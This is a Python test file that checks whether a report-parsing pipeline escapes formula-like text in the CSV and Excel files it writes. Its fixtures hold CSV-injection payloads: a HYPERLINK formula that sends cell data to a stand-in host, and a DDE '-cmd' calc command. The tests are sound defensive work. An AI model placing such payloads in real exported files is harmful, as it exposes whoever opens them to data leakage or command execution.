"""No cell that any command writes is a formula: text from a report or a council paper that starts
like one is escaped by one rule (`pipeline.cells`, OWASP's advice on CSV injection) in every CSV and
workbook, and characters a workbook cannot hold are removed rather than crashing the writer."""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from pipeline import batch, cells, compare, export
from pipeline.compare import charts as compare_charts
from pipeline.cli import main
from lab.faults import unescaped_cells
from pipeline.discover import discover
from pipeline.load import load

SAMPLES = Path(__file__).resolve().parents[1] / "data" / "raw" / "samples"
texts = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
formula_starts = st.sampled_from([*cells.FORMULA_STARTS, cells.QUOTE]).flatmap(lambda start: texts.map(start.__add__))
any_text = st.one_of(texts, formula_starts)


@given(any_text)
def test_a_csv_cell_never_starts_like_a_formula_and_reads_back_as_written(text):
    written = cells.csv_text(text)
    assert not cells.is_formula_like(written)
    assert cells.from_csv(written) == cells.cleaned(text)


@given(any_text)
def test_a_cleaned_cell_is_one_a_workbook_can_hold(text):
    Workbook().active["A1"] = cells.cleaned(text)  # openpyxl raises on a character XML forbids


@settings(max_examples=200)
@given(st.lists(st.one_of(st.none(), any_text), min_size=1, max_size=20))
def test_arrow_escapes_a_table_as_the_rule_escapes_each_cell(values):
    escaped = cells.csv_table(pa.table({"text": pa.array(values, pa.string())})).column(0).to_pylist()
    assert escaped == [None if value is None else cells.csv_text(value) for value in values]


# --- every file any command writes --------------------------------------------------------------


INJECTED = '=HYPERLINK("http://example.invalid/?"&A1)'


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """The samples and a fictional report whose council name and items start like formulas, its
    name holding a control character."""
    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(SAMPLES, root / "raw")
    pages = load(discover([SAMPLES / "ilacs-2022-brackenford.pdf"])[0], "").pages
    text = "\f".join(page.text for page in pages)
    text = text.replace("Inspection of Brackenford", f"Inspection of {INJECTED}Brackenford\x07", 1)
    text = text.replace("◼ The quality of assessments", "◼ =1+2 The quality of assessments", 1)
    text = text.replace("◼ Managers’ oversight", "◼ @SUM(A1) Managers’ oversight", 1)
    (root / "raw" / "hostile.txt").write_text(text, encoding="utf-8")
    summary = batch.run([root / "raw"], root / "out", workers=1)
    assert summary.ok
    return root / "out"


def test_the_run_writes_no_cell_a_spreadsheet_could_run(hostile_run):
    report = export.read_outputs(hostile_run).reports
    assert any(r.local_authority.startswith("=HYPERLINK") for r in report), "the fixture lost its formula"
    assert unescaped_cells(hostile_run) == []


def test_the_csv_reads_back_to_the_original_text_and_parquet_keeps_it(hostile_run):
    parquet = pd.read_parquet(hostile_run / "tables" / "improvements.parquet")
    raw_csv = pd.read_csv(hostile_run / "tables" / "improvements.csv", dtype=str, keep_default_na=False)
    assert "=1+2 The quality of assessments" in parquet["text"].str[:31].tolist()
    assert [cells.from_csv(text) for text in raw_csv["text"]] == parquet["text"].fillna("").tolist()


def test_export_rebuilds_workbooks_with_the_original_text_and_no_formula(hostile_run, tmp_path):
    out = shutil.copytree(hostile_run, tmp_path / "out")
    shutil.rmtree(out / "workbooks")
    result = CliRunner().invoke(main, ["export", "--out", str(out), "--sources", str(hostile_run.parent / "raw")])
    assert result.exit_code == 0, result.output
    assert unescaped_cells(out / "workbooks") == []
    plan = load_workbook(out / "workbooks" / "all-reports.xlsx")["Action plan"]
    texts = [str(cell.value)[:31] for row in plan.iter_rows() for cell in row]
    assert "=1+2 The quality of assessments" in texts


def test_compare_writes_no_formula_and_survives_a_control_character(tmp_path):
    documents = pd.DataFrame(
        [
            {
                "doc_id": doc,
                "source_path": f"{doc}.pdf",
                "kind": "ilacs",
                "local_authority": f"{INJECTED}\x1b Shire",
                "inspection_start": start,
                "framework": "standard",
                "status": "ok",
            }
            for doc, start in (("a", "2018-01-10"), ("b", "2022-03-05"))
        ]
    )
    judgements = pd.DataFrame(
        [
            {"doc_id": doc, "order": 1, "area": "Overall", "area_key": "overall_effectiveness", "grade": grade}
            for doc, grade in (("a", "good"), ("b", "inadequate"))
        ]
    )
    item = "-cmd|' /C calc'!A0 the quality of assessments of children in need and plans for them"
    improvements = pd.DataFrame(
        [{"doc_id": doc, "item_no": 1, "text": item, "theme": "assessment"} for doc in ("a", "b")]
    )
    comparison = compare.compare({"documents": documents, "judgements": judgements, "improvements": improvements})
    compare_charts.write(comparison, tmp_path)
    assert unescaped_cells(tmp_path) == []
    timeline = load_workbook(tmp_path / "comparison.xlsx")["Timeline"]
    assert any(str(cell.value).startswith("=HYPERLINK") for row in timeline.iter_rows() for cell in row)
